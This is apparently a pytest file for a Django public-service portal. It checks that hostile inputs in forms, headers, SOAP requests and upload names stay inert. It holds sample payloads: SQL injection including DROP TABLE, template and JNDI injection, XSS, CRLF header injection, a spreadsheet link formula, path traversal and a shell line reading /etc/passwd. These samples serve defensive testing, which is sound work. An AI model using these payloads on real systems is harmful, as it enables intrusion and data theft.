"""Hostile texts in every field and header: refused by their field or kept as text, never obeyed, and in no time."""

from __future__ import annotations

import re
import time
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import HttpRequest, HttpResponse
from django.test import Client, RequestFactory
from django.urls import reverse
from lxml import etree

from motcua.dossiers.files.reading import read_paper
from motcua.dossiers.models import Dossier
from motcua.identity.card_qr import CardRefused, read_card
from motcua.identity.claims import IdentityClaim
from motcua.identity.names import NameRefused, clean, key, suggest
from motcua.identity.register import Inquiry, TouchPoint
from motcua.population.soap import SOAP_11
from motcua.population.wire import REQUEST_NS, build_request
from motcua.verification.models import IdentityCheck
from motcua.web.middleware import drop_null
from tests.accounts.test_registration import typed
from tests.conftest import ToldRegister, account_of
from tests.dossiers.filing import PDF, address, agree, begin, give_papers
from tests.people import cast
from tests.reception.conftest import Desk

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("catalogue", "people")]

HOSTILE = {
    "sql": "' OR 1=1--",
    "sql that stops": "'; DROP TABLE dossiers_dossier; --",
    "template": "{{7*7}}{% debug %}${7*7}#{7*7}",
    "jndi": "${jndi:ldap://x.invalid/a}",
    "ldap": "*)(uid=*))(|(uid=*",
    "script": "<script>alert(1)</script>",
    "attribute": '" onfocus="alert(1)" autofocus x="',
    "entity": "&lt;img src=x onerror=alert(1)&gt;",
    "markup of the wire": "An</HoVaTen><SoDinhDanh>1</SoDinhDanh><HoVaTen>",
    "format": "%s%n{0.__class__}%(x)s",
    "spreadsheet": '=HYPERLINK("http://x.invalid","a")',
    "lines": "An\r\nX-Injected: yes\r\n\r\n<b>",
    "shell": "$(touch /tmp/x) `id` | cat /etc/passwd",
}
INVISIBLE = {
    "nul": "An\x00", "direction": "An\u202egnol", "isolate": "An\u2066a", "emoji": "An 😀", "blanks": "   ",
    "invisible alone": "\u200b\u200d\ufeff", "very long": "A" * 10_000, "hundred and one": "A" * 101,
    "cyrillic": "Nguyễn Vаn An", "greek": "Nguyễn Văn Αn", "arabic": "نگوین", "han": "阮文安", "digits": "An 2",
    "private use": "An\ue000", "half a character": "An\ud800", "control": "An\x1b[2J", "lost": "An\ufffd",
}  # fmt: skip
FIELDS = ("full_name", "number", "birth_date", "phone", "email", "password")
QUICK_MS = 50


def spent(work: object) -> float:
    """Return the least processor time of three goes, in milliseconds."""
    times = []
    for _ in range(3):
        started = time.process_time()
        work()
        times.append((time.process_time() - started) * 1000)
    return min(times)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_text_in_any_field_of_registration_stays_a_text(
    client: Client, register: ToldRegister, text: str
) -> None:
    for field in FIELDS:
        form = typed(cast.cuc, **{field: text})
        page = client.post("/dang-ky/", form).content.decode()
        assert text not in page or "<" not in text
        assert "<script>alert" not in page
        assert '" onfocus="' not in page
        assert "49" not in re.findall(r'id="id_full_name"[^>]*value="([^"]*)"', page)
    assert all(claim == cast.cuc.claim for claim in register.claims), "only the password took such a text"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_text_at_the_desk_stays_a_text(desk: Desk, register: ToldRegister, text: str) -> None:
    tokens = ("scan", "checked", "warned", "press_key", "form_token", "check_key")
    for field in ("full_name", "number", "birth_date", "procedure", *tokens):
        desk.opens()
        desk.types(cast.an)
        answer = desk.client.post(reverse("check"), {**desk.form, field: text})
        page = answer.content.decode()
        assert answer.status_code in (200, 409)
        assert "<script>alert" not in page
        assert '" onfocus="' not in page
        assert "X-Injected" not in answer.headers
    desk.opens()
    desk.checks(cast.hanh)
    screen = desk.saves(
        by_hand_reason="rejected", originals_seen="on", permanent_residence=text, current_residence=text
    )
    assert "<script>alert" not in screen.response.content.decode()
    assert '" onfocus="' not in screen.response.content.decode()
    dossier = Dossier.objects.get()
    assert dossier.permanent_residence.split() == text.split()
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM dossiers_dossier")
        assert cursor.fetchone() == (1,)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_text_in_any_header_or_query_has_no_effect(client: Client, text: str) -> None:
    plain = text.replace("\r", "").replace("\n", "")
    headers = dict.fromkeys(
        (
            "User-Agent",
            "Referer",
            "Accept-Language",
            "X-Forwarded-For",
            "HX-Current-URL",
            "HX-Target",
            "Origin",
        ),
        plain,
    )
    for path in ("/", "/thu-tuc/", "/tra-cuu/", "/dang-nhap/", "/trang-thai/"):
        answer = client.get(path, {"q": text, "ma": text, "next": text, "linh-vuc": text}, headers=headers)
        assert answer.status_code == 200
        assert "X-Injected" not in answer.headers
        assert "<script>alert" not in answer.content.decode()
        assert '" onfocus="' not in answer.content.decode()


@pytest.mark.parametrize("asked", ["/ho-so/%00/?ma=%00", "/ho-so/?ma=%0%000", "/ho-so/?ma=%0%0%00000"])
def test_a_null_character_in_an_address_reaches_no_page(asked: str) -> None:
    seen: list[str] = []

    def page(request: HttpRequest) -> HttpResponse:
        seen.extend([request.path, request.path_info, *request.GET.values()])
        return HttpResponse()

    drop_null(page)(RequestFactory().get(asked))

    assert seen
    assert "\0" not in "".join(seen)


@pytest.mark.parametrize("text", INVISIBLE.values(), ids=INVISIBLE)
def test_a_name_that_cannot_be_is_refused_at_every_touch_point(
    client: Client, desk: Desk, an_client: Client, register: ToldRegister, text: str
) -> None:
    posted = text.encode("utf-8", "replace").decode()  # what a form can carry
    assert client.post("/dang-ky/", typed(cast.cuc, full_name=posted)).status_code == 200
    assert desk.checks(cast.an, full_name=posted).answers == []
    an_client.post("/ca-nhan/chinh-sua/", typed(cast.an, full_name=posted))

    assert register.asked == 0
    assert not IdentityCheck.objects.exists()
    assert account_of(cast.an).full_name == cast.an.full_name
    with pytest.raises(NameRefused):
        clean(text)


def test_letters_that_look_like_d_with_a_stroke_become_it() -> None:
    for sign in ("Ð", "Ɖ"):
        assert clean(f"{sign}ặng Minh {sign}ức") == "Đặng Minh Đức"


@pytest.mark.parametrize(
    ("typed_name", "held"),
    [("Nguyen Van An", "Nguyễn Văn An"), ("Lê Na Lan", "Lê Lê Na"), ("Lê Lan", "Lê Lan Lan")],
)
def test_a_name_of_other_letters_or_words_is_another_name(typed_name: str, held: str) -> None:
    assert key(typed_name) != key(held)


@pytest.mark.parametrize(
    "text",
    ["a-'" * 5000 + "!", "mR An " * 160, "mR aN mr An" * 900, "a-'" * 333, "ế" * 1000, "e\u0302\u0301" * 333,
     "%E1%BA%BF" * 55, "&#7871;" * 70, "uwow" * 125, "a1e2o3" * 80, "' " * 500, "ệ'" * 500],
    ids=lambda text: f"{text[:8]} {len(text)}",
)  # fmt: skip
def test_a_text_made_to_keep_us_busy_is_done_with_at_once(text: str) -> None:
    def read() -> None:
        suggest(text)
        try:
            key(text)
        except NameRefused:
            return

    assert spent(read) < QUICK_MS


def test_a_card_text_made_to_keep_us_busy_is_done_with_at_once() -> None:
    def read() -> None:
        for text in ("999085000001" + "|" * 988, "]Q1" + " " * 990, "9" * 1000, "999085000001|" + "ế" * 980):
            try:
                read_card(text, today=date(2026, 11, 23))
            except CardRefused:
                continue

    assert spent(read) < QUICK_MS


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_name_forced_past_the_forms_is_only_text_in_the_question(text: str) -> None:
    claim = IdentityClaim.__new__(IdentityClaim)
    for name, value in (
        ("full_name", text),
        ("number", cast.an.claim.number),
        ("birth_date", cast.an.birth_date),
    ):
        object.__setattr__(claim, name, value)
    inquiry = Inquiry("H40-1", text.replace("\r\n", ""), "lan", "000.00.01.H23", "VPCP", TouchPoint.RECEPTION)

    root = etree.fromstring(build_request(claim, inquiry, service="037", name_form="accented"))

    body = root.find(f"{{{SOAP_11}}}Body")
    assert body is not None
    assert [element.tag for element in body[0]].count(f"{{{REQUEST_NS}}}HoVaTen") == 1
    assert [element.tag for element in body[0]].count(f"{{{REQUEST_NS}}}SoDinhDanh") == 1
    written = body[0].findtext(f"{{{REQUEST_NS}}}HoVaTen") or ""
    assert written.split() == text.upper().split()
    assert body[0].findtext(f"{{{REQUEST_NS}}}SoDinhDanh") == cast.an.number


@pytest.mark.parametrize(
    "name",
    [
        'a"\r\nX-Injected: yes.pdf',
        "../../etc/passwd",
        "..\\..\\a.pdf",
        'a";filename="b.exe',
        "đơn\u202efdp.exe",
    ],
)
def test_the_name_of_a_file_adds_no_header_and_no_path(
    an_client: Client, register: ToldRegister, name: str
) -> None:
    upload = SimpleUploadedFile("x", PDF)
    upload._name = name
    shown = read_paper(upload).name
    assert shown.endswith(".pdf")
    assert not re.search(r"[\r\n\u202e/\\\\]", shown)

    dossier = begin(an_client)
    agree(an_client, dossier)
    give_papers(an_client, dossier)
    dossier.papers.update(original_name=name.replace("\x00", ""))  # as if it had got past
    paper = dossier.papers.first()
    assert paper is not None
    answer = an_client.get(address(dossier, f"giay-to/{paper.pk}/"))
    assert answer.status_code == 200
    assert "X-Injected" not in answer.headers
    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    answer.close()
    disposition = answer["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert not re.search(r"[\r\n\u202e]", disposition)
    assert 'filename="b.exe' not in disposition.replace('\\"', "")


def test_without_a_number_nobody_is_asked(client: Client, desk: Desk, register: ToldRegister) -> None:
    for number in ("", " ", "*", "%", "999*", "0" * 11, "９９９"):
        assert desk.checks(cast.an, number=number).answers == []
        client.post("/dang-ky/", typed(cast.cuc, number=number))

    assert register.asked == 0
    assert not IdentityCheck.objects.exists()
